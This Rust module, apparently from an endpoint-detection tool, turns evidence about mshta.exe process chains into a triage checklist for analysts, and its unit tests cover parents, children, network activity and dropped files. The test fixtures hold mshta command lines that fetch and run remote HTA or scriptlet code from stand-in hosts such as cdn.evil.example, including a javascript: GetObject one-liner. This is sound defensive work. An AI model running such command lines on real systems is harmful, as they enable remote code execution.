//! Triage: the checklist of one chain, short imperative lines naming what
//! an analyst should examine next: the content mshta ran, who started it,
//! what it started, where it connected and what it looked up, what it
//! wrote, and whether a known-good rule applies. Computed from the chain's
//! own evidence (so it works on any `Chain`, old JSON included), with the
//! tables of `knowledge`, so that what triage asks to collect is what
//! scoring counts. What the host's telemetry cannot show belongs to the
//! report's coverage, not to a chain.

use crate::knowledge as k;
use crate::report::{Chain, Direction, FileEvent, Relation};

/// Items that list things (processes, endpoints, names, files) show this
/// many, then "and N more".
const LISTED: usize = 3;

/// Items per section at most, then one line counting the rest: a chain
/// with hundreds of shells or Startup files (the input is untrusted) keeps
/// a checklist a person can read, and a bounded one.
const MAX_PER_SECTION: usize = 10;

/// The checklist, in section order, each item once.
pub(crate) fn checklist(chain: &Chain) -> Vec<String> {
    let sections: [fn(&Chain, &mut Items); 6] = [content, launcher, processes, network, written, known_good];
    let mut items = Items(Vec::new());
    for section in sections {
        let start = items.0.len();
        section(chain, &mut items);
        items.cap(start);
    }
    items.0
}

/// The checklist so far: an item already there is not repeated.
struct Items(Vec<String>);

impl Items {
    fn add(&mut self, item: String) {
        if !self.0.contains(&item) {
            self.0.push(item);
        }
    }

    /// Keeps [`MAX_PER_SECTION`] of the items added since `start`.
    fn cap(&mut self, start: usize) {
        let added = self.0.len() - start;
        if added > MAX_PER_SECTION {
            self.0.truncate(start + MAX_PER_SECTION);
            self.0.push(format!("... and {} more like the above (see the chain's evidence)", added - MAX_PER_SECTION));
        }
    }
}

/// Section 1: what mshta ran: its own start if unseen, the remote content, the
/// inline script, the local file (and who wrote it).
fn content(chain: &Chain, items: &mut Items) {
    let root = &chain.root;
    if root.inferred || root.command_line.is_none() {
        let and_parent = if root.parent.is_some() { "" } else { " and parent" };
        items.add(format!(
            "find mshta's own start (pid {}) in the host's logs: its command line{and_parent} were not seen",
            root.pid
        ));
    }
    let cmd = root.command_line.as_deref().unwrap_or("");
    let mut urls = remote_targets(cmd);
    // Other spellings scoring recognises (`//host/a.hta`, `file://host/`,
    // `http:\\host\`, percent-encoded): shown as written.
    if urls.is_empty() {
        if let Some(r) = k::remote(&cmd.to_ascii_lowercase()) {
            urls.extend(cmd.get(r.span.0..r.span.1).map(str::to_string));
        }
    }
    for url in urls {
        items.add(format!("retrieve and inspect the content at {url} (in a sandbox: it is what mshta ran)"));
    }
    let inline = k::inline_handler(&cmd.to_ascii_lowercase()).is_some();
    if inline {
        items.add(
            "decode and review the inline script in mshta's command line (what it creates, runs or downloads)".into(),
        );
        if let Some((target, _)) = k::shell_execute_runas(cmd) {
            items.add(format!(
                "confirm the target it elevates (ShellExecute \"runas\", run as administrator after a UAC prompt) is expected: {target}"
            ));
        }
    }
    // The file another process wrote just before mshta ran it, by path in
    // any (ASCII) case, as the core compares paths (the last report of a
    // path wins).
    let mut ran_by_root: Vec<(String, &FileEvent)> = Vec::new();
    for f in chain.files.iter().filter(|f| f.relation == Relation::RunByRoot) {
        let key = f.path.to_ascii_lowercase();
        match ran_by_root.iter_mut().find(|(p, _)| *p == key) {
            Some(slot) => slot.1 = f,
            None => ran_by_root.push((key, f)),
        }
    }
    let written_by = |f: &FileEvent| {
        let pid = f.pid.map(|p| format!(" pid {p}")).unwrap_or_default();
        format!(" (written by {}{pid} just before mshta ran it)", image_name(f.image.as_deref()))
    };
    // A path inside inline script is the script's business, covered above.
    if !inline {
        for path in local_targets(cmd) {
            let key = path.to_ascii_lowercase();
            let note = ran_by_root.iter().find(|(p, _)| *p == key).map(|(_, f)| written_by(f)).unwrap_or_default();
            items.add(format!("collect and inspect the file mshta ran: {path}{note}"));
        }
    }
    for (_, f) in &ran_by_root {
        items.add(format!("collect and inspect the file mshta ran: {}{}", f.path, written_by(f)));
    }
}

/// Section 2: who started it, by the kind of parent.
fn launcher(chain: &Chain, items: &mut Items) {
    let Some(parent) = &chain.root.parent else { return };
    let Some(image) = parent.image.as_deref().filter(|i| !i.is_empty()) else { return };
    let pid = parent.pid.map(|p| format!(" pid {p}")).unwrap_or_default();
    let who = format!("{}{pid}", image_name(Some(image)));
    let has = |id: &str| chain.reasons.iter().any(|r| r.id == id);
    items.add(if k::is_office(image) {
        format!("check the parent {who} for the document or macro that launched mshta (and where it came from: mail, download)")
    } else if k::is_explorer(image) {
        format!("ask the user what they opened or ran (parent {who}: a double-click, a shortcut or Run dialog)")
    } else if k::is_service_host(image) || k::is_wmi_host(image) || has("parent_dcom") || has("parent_wmi") {
        format!("find the remote caller: mshta was started through {who} (DCOM/WMI); check inbound connections and logons on the host")
    } else if k::is_browser(image) {
        format!("check the browser history of {who} for the page or download that launched mshta")
    } else if k::is_launcher_script_host(image) {
        format!("check the parent {who} (its command line and its own parent) for the script or document that launched mshta")
    } else {
        format!("check the parent {who} for what launched mshta")
    });
}

/// Section 3: what it started: shells and LOLBins by their command lines, files the
/// chain wrote then ran, the other processes together.
fn processes(chain: &Chain, items: &mut Items) {
    let mut others = Vec::new();
    for c in &chain.children {
        if k::is_console_host(&c.image) {
            continue;
        }
        let does = k::child_does(&c.image, c.command_line.as_deref().unwrap_or(""));
        if let Some(kind) = does.persists {
            let again = if does.relaunches_mshta { ", which runs mshta again" } else { "" };
            items.add(format!(
                "find and remove the {kind} {} pid {} created{again} (its command line names it)",
                image_name(Some(&c.image)),
                c.pid
            ));
        }
        if let Some(lib) = &does.non_library {
            items.add(format!(
                "collect and inspect {lib}: {} pid {} loads it as a library",
                image_name(Some(&c.image)),
                c.pid
            ));
        }
        if k::is_powershell(&c.image) {
            items.add(format!(
                "review the PowerShell command line of pid {} (and its script block log, event 4104)",
                c.pid
            ));
        } else if k::is_shell_or_lolbin(&c.image) {
            items.add(format!("review the command line of {} pid {}", image_name(Some(&c.image)), c.pid));
        } else if c.executed_file {
            items.add(format!("collect and inspect {} (pid {}): it runs a file the chain wrote", c.image, c.pid));
        } else {
            others.push(format!("{} pid {}", image_name(Some(&c.image)), c.pid));
        }
    }
    if !others.is_empty() {
        items.add(format!("check what the other processes it started did: {}", listed(&others)));
    }
}

/// Section 4: where it connected (the caller of an inbound connection, the far ends
/// of outbound ones) and what it looked up.
fn network(chain: &Chain, items: &mut Items) {
    let or_unknown = |v: Option<String>| v.unwrap_or_else(|| "?".into());
    let mut endpoints: Vec<String> = Vec::new();
    for n in &chain.network {
        if n.direction == Direction::Inbound {
            items.add(format!(
                "find the host that connected in from {} (port {}): the likely DCOM caller",
                or_unknown(n.src_ip.clone()),
                or_unknown(n.dst_port.map(|p| p.to_string()))
            ));
            continue;
        }
        let ip = match n.dst_ip.as_deref() {
            None => "?".to_string(),
            Some(ip) if ip.contains(':') => format!("[{ip}]"),
            Some(ip) => ip.to_string(),
        };
        let host = n.dst_host.as_deref().filter(|h| !h.is_empty()).map(|h| format!(" ({h})")).unwrap_or_default();
        let text = format!("{ip}:{}{host}", or_unknown(n.dst_port.map(|p| p.to_string())));
        if !endpoints.contains(&text) {
            endpoints.push(text);
        }
    }
    if !endpoints.is_empty() {
        items.add(format!(
            "block or inspect connections to {}; look for other hosts talking to them",
            listed(&endpoints)
        ));
    }
    let mut queries: Vec<String> = Vec::new();
    for d in &chain.dns {
        if !queries.contains(&d.query) {
            queries.push(d.query.clone());
        }
    }
    if !queries.is_empty() {
        items.add(format!("search DNS and proxy logs for other hosts resolving {}", listed(&queries)));
    }
}

/// Section 5: what it wrote: persistence in a Startup folder, executables, scripts
/// and archives to collect.
fn written(chain: &Chain, items: &mut Items) {
    for f in chain.files.iter().filter(|f| k::is_startup_path(&f.path)) {
        items.add(format!("look for persistence in the Startup folder file {} (it runs at every logon)", f.path));
    }
    let risky: Vec<String> = chain
        .files
        .iter()
        .filter(|f| f.relation != Relation::RunByRoot && !k::is_startup_path(&f.path) && k::is_risky_file(&f.path))
        .map(|f| f.path.clone())
        .collect();
    if !risky.is_empty() {
        items.add(format!("collect and hash the files it wrote: {}", listed(&risky)));
    }
}

/// Section 6: known good? A baseline or allowlist lowered the score.
fn known_good(chain: &Chain, items: &mut Items) {
    if chain.reasons.iter().any(|r| r.id == "baseline_known" || r.id.starts_with("allowlisted_")) {
        items.add("confirm this is still the known-good use the baseline or allowlist describes".into());
    }
}

/// The first [`LISTED`] entries, then "and N more".
fn listed(entries: &[String]) -> String {
    let shown = entries.len().min(LISTED);
    let mut s = entries[..shown].join(", ");
    if entries.len() > shown {
        s.push_str(&format!(" and {} more", entries.len() - shown));
    }
    s
}

/// The file name of a Windows or POSIX path as the report shows it: `?`
/// when unknown, the whole text when it ends in a separator.
fn image_name(path: Option<&str>) -> &str {
    let Some(text) = path.filter(|p| !p.is_empty()) else { return "?" };
    match text.rfind(['\\', '/']) {
        Some(cut) if cut + 1 < text.len() => &text[cut + 1..],
        _ => text,
    }
}

/// Whitespace as a JavaScript regular expression's `\s` sees it.
fn is_space(c: char) -> bool {
    c.is_whitespace() || c == '\u{feff}'
}

/// Characters that end a URL or UNC path in a command line.
fn ends_target(c: char) -> bool {
    is_space(c) || matches!(c, '"' | '\'' | '(' | ')' | '<' | '>')
}

/// URLs (http, https, ftp) and UNC paths (`\\host[@SSL][@port]\...`) named
/// in a command line, URLs first, each once, with trailing quotes,
/// brackets and punctuation removed.
fn remote_targets(cmd: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut add = |t: &str| {
        let v = t.trim_end_matches(['"', '\'', '(', ')', '<', '>', ';', ',', ']']).trim_end_matches('.');
        if !v.is_empty() && !out.iter().any(|o| o == v) {
            out.push(v.to_string());
        }
    };
    // URLs: a scheme at a word boundary, then everything up to a delimiter.
    let mut i = 0;
    while i < cmd.len() {
        let at_boundary = cmd[..i].chars().next_back().is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'));
        let scheme = ["https://", "http://", "ftp://"]
            .iter()
            .find(|s| cmd.get(i..i + s.len()).is_some_and(|t| t.eq_ignore_ascii_case(s)));
        match scheme {
            Some(s) if at_boundary => {
                let start = i + s.len();
                let end = cmd[start..].find(ends_target).map_or(cmd.len(), |e| start + e);
                if end > start {
                    add(&cmd[i..end]);
                    i = end;
                    continue;
                }
                i += 1;
            }
            _ => i += cmd[i..].chars().next().map_or(1, char::len_utf8),
        }
    }
    // UNC paths: `\\`, a host of name characters (with `@SSL`, `@port`),
    // `\`, then the path up to a delimiter.
    let host_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '$' | '@' | '-');
    let mut i = 0;
    while let Some(off) = cmd[i..].find("\\\\") {
        let start = i + off;
        let host_start = start + 2;
        let host_len = cmd[host_start..].find(|c: char| !host_char(c)).unwrap_or(cmd.len() - host_start);
        let sep = host_start + host_len;
        if host_len > 0 && cmd[sep..].starts_with('\\') {
            let rest = sep + 1;
            let end = cmd[rest..].find(ends_target).map_or(cmd.len(), |e| rest + e);
            if end > rest {
                add(&cmd[start..end]);
                i = end;
                continue;
            }
        }
        i = start + 1;
    }
    out
}

/// Local files (`X:\...`) the command line runs: quoted arguments whole,
/// bare ones up to the next space; trailing quotes and punctuation removed;
/// mshta itself left out; each once.
fn local_targets(cmd: &str) -> Vec<String> {
    let drive = |s: &str| {
        let b = s.as_bytes();
        b.len() >= 3 && b[0].is_ascii_alphabetic() && b[1] == b':' && b[2] == b'\\'
    };
    let mut out: Vec<String> = Vec::new();
    let mut i = 0;
    while i < cmd.len() {
        let rest = &cmd[i..];
        let mut found: Option<(&str, usize)> = None;
        // `"X:\..."`: up to the closing quote (at least one character after
        // the drive's backslash).
        if let Some(inner) = rest.strip_prefix('"').filter(|s| drive(s)) {
            if let Some(close) = inner[3..].find('"').filter(|&c| c > 0) {
                found = Some((&inner[..3 + close], 1 + 3 + close + 1));
            }
        }
        // `X:\...` at the start or after a space: up to the next space.
        if found.is_none() {
            let skip = if i == 0 && drive(rest) {
                Some(0)
            } else {
                rest.chars().next().filter(|&c| is_space(c)).map(char::len_utf8).filter(|&n| drive(&rest[n..]))
            };
            if let Some(n) = skip {
                let body = &rest[n..];
                let len = body[3..].find(is_space).map_or(body.len(), |e| 3 + e);
                if len > 3 {
                    found = Some((&body[..len], n + len));
                }
            }
        }
        match found {
            Some((path, used)) => {
                let path = path.trim_end_matches(['"', '\'', '(', ')', ';', ',']);
                let name = image_name(Some(path)).to_ascii_lowercase();
                if name != k::MSHTA && name != "mshta" && !out.iter().any(|o| o == path) {
                    out.push(path.to_string());
                }
                i += used;
            }
            None => i += rest.chars().next().map_or(1, char::len_utf8),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{ChildProcess, DnsEvent, NetworkEvent, Parent, Reason, Root};

    fn chain(command_line: &str, parent: Option<(&str, u32)>) -> Chain {
        Chain {
            totals: Default::default(),
            id: "mc-test".into(),
            host: "PC1".into(),
            score: 0,
            severity: crate::report::Severity::Informational,
            technique: "T1218.005".into(),
            analytic: "AN1397".into(),
            status: crate::report::Status::Closed,
            root: Root {
                file: None,
                record_id: None,
                pid: 100,
                process_guid: None,
                image: "C:\\Windows\\System32\\mshta.exe".into(),
                command_line: Some(command_line.into()),
                user: None,
                time: "2024-05-01T10:00:00.000Z".into(),
                end_time: None,
                inferred: false,
                parent: parent.map(|(image, pid)| Parent {
                    pid: Some(pid),
                    process_guid: None,
                    image: Some(image.into()),
                    command_line: None,
                }),
                event: Some(0),
                events: vec![0],
                sources: vec!["sysmon".into()],
            },
            lineage: Vec::new(),
            children: Vec::new(),
            files: Vec::new(),
            network: Vec::new(),
            dns: Vec::new(),
            modules: Vec::new(),
            reasons: Vec::new(),
            triage: Vec::new(),
        }
    }

    fn child(image: &str, pid: u32) -> ChildProcess {
        ChildProcess {
            file: None,
            record_id: None,
            pid,
            process_guid: None,
            image: image.into(),
            command_line: None,
            time: "2024-05-01T10:00:01.000Z".into(),
            depth: 1,
            parent_pid: Some(100),
            late: false,
            executed_file: false,
            event: 1,
            events: vec![1],
        }
    }

    fn file(path: &str, relation: Relation) -> FileEvent {
        FileEvent {
            file: None,
            record_id: None,
            path: path.into(),
            time: "2024-05-01T10:00:01.000Z".into(),
            pid: Some(100),
            image: Some("C:\\Windows\\System32\\mshta.exe".into()),
            late: false,
            relation,
            event: 2,
            clock_skew: false,
        }
    }

    fn connection(direction: Direction, src: &str, dst: &str, dst_port: u16) -> NetworkEvent {
        NetworkEvent {
            file: None,
            record_id: None,
            dst_ip: Some(dst.into()),
            dst_port: Some(dst_port),
            dst_host: None,
            src_ip: Some(src.into()),
            src_port: Some(50123),
            direction,
            time: "2024-05-01T10:00:01.000Z".into(),
            pid: Some(100),
            image: None,
            late: false,
            event: 3,
            clock_skew: false,
            events: vec![3],
            sources: vec!["sysmon".into()],
        }
    }

    #[test]
    fn a_remote_url_is_retrieved_and_its_lookups_searched() {
        let mut c = chain("mshta.exe https://cdn.evil.example/a.hta\"", Some(("C:\\Windows\\System32\\cmd.exe", 90)));
        c.network.push(connection(Direction::Outbound, "10.0.0.5", "203.0.113.7", 443));
        c.network.push(connection(Direction::Outbound, "10.0.0.5", "203.0.113.7", 443));
        c.network.push(connection(Direction::Outbound, "10.0.0.5", "2001:db8::1", 8443));
        c.dns.push(DnsEvent {
            file: None,
            record_id: None,
            query: "cdn.evil.example".into(),
            time: "2024-05-01T10:00:00.500Z".into(),
            pid: Some(100),
            image: None,
            late: false,
            event: 4,
            clock_skew: false,
        });
        assert_eq!(
            checklist(&c),
            [
                "retrieve and inspect the content at https://cdn.evil.example/a.hta (in a sandbox: it is what mshta ran)",
                "check the parent cmd.exe pid 90 (its command line and its own parent) for the script or document that launched mshta",
                "block or inspect connections to 203.0.113.7:443, [2001:db8::1]:8443; look for other hosts talking to them",
                "search DNS and proxy logs for other hosts resolving cdn.evil.example",
            ]
        );
    }

    #[test]
    fn a_dropped_executable_is_collected_and_the_policy_probe_is_not() {
        let mut c = chain("mshta.exe vbscript:Execute(\"x\")", None);
        let temp = "C:\\Users\\a\\AppData\\Local\\Temp\\";
        c.files.push(file(&format!("{temp}stage2.EXE"), Relation::Created));
        c.files.push(file(&format!("{temp}__PSScriptPolicyTest_x1.ps1"), Relation::Created));
        c.files.push(file(&format!("{temp}notes.txt"), Relation::Created));
        c.children.push(child("C:\\Windows\\System32\\conhost.exe", 201));
        let mut run = child(&format!("{temp}stage2.exe"), 202);
        run.executed_file = true;
        c.children.push(run);
        let list = checklist(&c);
        assert_eq!(
            list,
            [
                "decode and review the inline script in mshta's command line (what it creates, runs or downloads)",
                "collect and inspect C:\\Users\\a\\AppData\\Local\\Temp\\stage2.exe (pid 202): it runs a file the chain wrote",
                "collect and hash the files it wrote: C:\\Users\\a\\AppData\\Local\\Temp\\stage2.EXE",
            ]
        );
    }

    #[test]
    fn an_office_parent_and_a_startup_file() {
        let mut c = chain(
            "mshta http://203.0.113.5/doc.hta",
            Some(("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", 4000)),
        );
        let startup = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.exe";
        c.files.push(file(startup, Relation::Created));
        c.children.push(child("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 300));
        c.children.push(child("C:\\Windows\\System32\\certutil.exe", 301));
        let list = checklist(&c);
        assert_eq!(
            list,
            [
                "retrieve and inspect the content at http://203.0.113.5/doc.hta (in a sandbox: it is what mshta ran)",
                "check the parent WINWORD.EXE pid 4000 for the document or macro that launched mshta (and where it came from: mail, download)",
                "review the PowerShell command line of pid 300 (and its script block log, event 4104)",
                "review the command line of certutil.exe pid 301",
                &format!("look for persistence in the Startup folder file {startup} (it runs at every logon)"),
            ]
        );
    }

    #[test]
    fn an_inbound_connection_and_a_dcom_parent() {
        let mut c =
            chain("C:\\Windows\\System32\\mshta.exe -Embedding", Some(("C:\\Windows\\System32\\svchost.exe", 900)));
        c.network.push(connection(Direction::Inbound, "10.0.0.9", "10.0.0.5", 49702));
        c.reasons.push(Reason {
            id: "parent_dcom".into(),
            points: 20,
            detail: String::new(),
            events: vec![0],
            spans: vec![],
        });
        assert_eq!(
            checklist(&c),
            [
                "find the remote caller: mshta was started through svchost.exe pid 900 (DCOM/WMI); check inbound connections and logons on the host",
                "find the host that connected in from 10.0.0.9 (port 49702): the likely DCOM caller",
            ]
        );
    }

    #[test]
    fn parents_by_kind() {
        let first = |image: &str| checklist(&chain("mshta c:\\a.hta", Some((image, 7))))[1].clone();
        assert!(first("C:\\Windows\\explorer.exe")
            .starts_with("ask the user what they opened or ran (parent explorer.exe pid 7"));
        assert!(first("C:\\x\\msedge.exe").starts_with("check the browser history of msedge.exe pid 7"));
        assert!(first("C:\\x\\WmiPrvSE.exe").starts_with("find the remote caller"));
        assert_eq!(first("C:\\x\\services.exe"), "check the parent services.exe pid 7 for what launched mshta");
    }

    #[test]
    fn the_file_mshta_ran_and_who_wrote_it() {
        let path = "C:\\Users\\a\\Start Menu\\Programs\\Startup\\T1218.005.hta";
        let mut c = chain(&format!("\"C:\\Windows\\system32\\mshta.exe\" \"{path}\""), None);
        let mut dropped = file(path, Relation::RunByRoot);
        dropped.image = Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into());
        dropped.pid = Some(10848);
        c.files.push(dropped);
        let list = checklist(&c);
        assert_eq!(
            list,
            [
                format!("collect and inspect the file mshta ran: {path} (written by powershell.exe pid 10848 just before mshta ran it)"),
                format!("look for persistence in the Startup folder file {path} (it runs at every logon)"),
            ]
        );
    }

    #[test]
    fn an_inferred_root_asks_for_its_start_and_known_good_for_confirmation() {
        let mut c = chain("", None);
        c.root.command_line = None;
        c.root.inferred = true;
        c.reasons.push(Reason {
            id: "allowlisted_host".into(),
            points: -50,
            detail: String::new(),
            events: vec![],
            spans: vec![],
        });
        assert_eq!(
            checklist(&c),
            [
                "find mshta's own start (pid 100) in the host's logs: its command line and parent were not seen",
                "confirm this is still the known-good use the baseline or allowlist describes",
            ]
        );
    }

    #[test]
    fn many_processes_are_counted() {
        let mut c = chain("mshta c:\\a.hta", None);
        for (i, name) in ["a.exe", "b.exe", "c.exe", "d.exe", "e.exe"].iter().enumerate() {
            c.children.push(child(name, 10 + i as u32));
        }
        let list = checklist(&c);
        assert_eq!(
            list.last().unwrap(),
            "check what the other processes it started did: a.exe pid 10, b.exe pid 11, c.exe pid 12 and 2 more"
        );
    }

    #[test]
    fn a_section_is_capped() {
        let mut c = chain("mshta c:\\a.hta", None);
        for pid in 0..25 {
            c.children.push(child("cmd.exe", 1000 + pid));
        }
        c.dns.push(DnsEvent {
            file: None,
            record_id: None,
            query: "a.example".into(),
            time: "2024-05-01T10:00:00.500Z".into(),
            pid: Some(100),
            image: None,
            late: false,
            event: 4,
            clock_skew: false,
        });
        let list = checklist(&c);
        assert_eq!(list.len(), 1 + MAX_PER_SECTION + 1 + 1, "{list:#?}");
        assert_eq!(list[MAX_PER_SECTION], "review the command line of cmd.exe pid 1009");
        assert_eq!(list[MAX_PER_SECTION + 1], "... and 15 more like the above (see the chain's evidence)");
        assert!(list.last().unwrap().starts_with("search DNS and proxy logs"), "later sections still show");
    }

    #[test]
    fn remote_targets_in_command_lines() {
        assert_eq!(
            remote_targets("mshta javascript:a=(GetObject('script:https://raw.example/x.sct')).Exec();close();"),
            ["https://raw.example/x.sct"]
        );
        assert_eq!(remote_targets("mshta HTTP://evil.example/a.hta."), ["HTTP://evil.example/a.hta"]);
        assert_eq!(remote_targets("mshta xhttp://evil.example/a"), Vec::<String>::new());
        assert_eq!(
            remote_targets("mshta \\\\evil@SSL@8443\\DavWWWRoot\\a.hta"),
            ["\\\\evil@SSL@8443\\DavWWWRoot\\a.hta"]
        );
        assert_eq!(remote_targets("mshta \"\\\\10.0.0.5\\share\\a.hta\";"), ["\\\\10.0.0.5\\share\\a.hta"]);
        assert_eq!(remote_targets("\\\\?\\C:\\Windows\\mshta.exe c:\\a.hta"), Vec::<String>::new());
        assert_eq!(remote_targets("mshta https://"), Vec::<String>::new());
    }

    #[test]
    fn local_targets_in_command_lines() {
        assert_eq!(
            local_targets("\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Program Files\\App\\a b.hta\" {1E460BD7-F1C3}"),
            ["C:\\Program Files\\App\\a b.hta"]
        );
        assert_eq!(local_targets("mshta.exe C:\\MEM_Configmgr_5\\splash.hta"), ["C:\\MEM_Configmgr_5\\splash.hta"]);
        assert_eq!(local_targets("C:\\Windows\\SysWOW64\\mshta.exe C:\\x\\a.hta;"), ["C:\\x\\a.hta"]);
        assert_eq!(local_targets("mshta C:\\ \"C:\\\""), Vec::<String>::new());
        assert_eq!(local_targets("mshta é C:\\ünï\\a.hta"), ["C:\\ünï\\a.hta"]);
    }

    #[test]
    fn image_names() {
        assert_eq!(image_name(Some("C:\\x\\a.exe")), "a.exe");
        assert_eq!(image_name(Some("C:\\x\\")), "C:\\x\\");
        assert_eq!(image_name(Some("")), "?");
        assert_eq!(image_name(None), "?");
    }
}
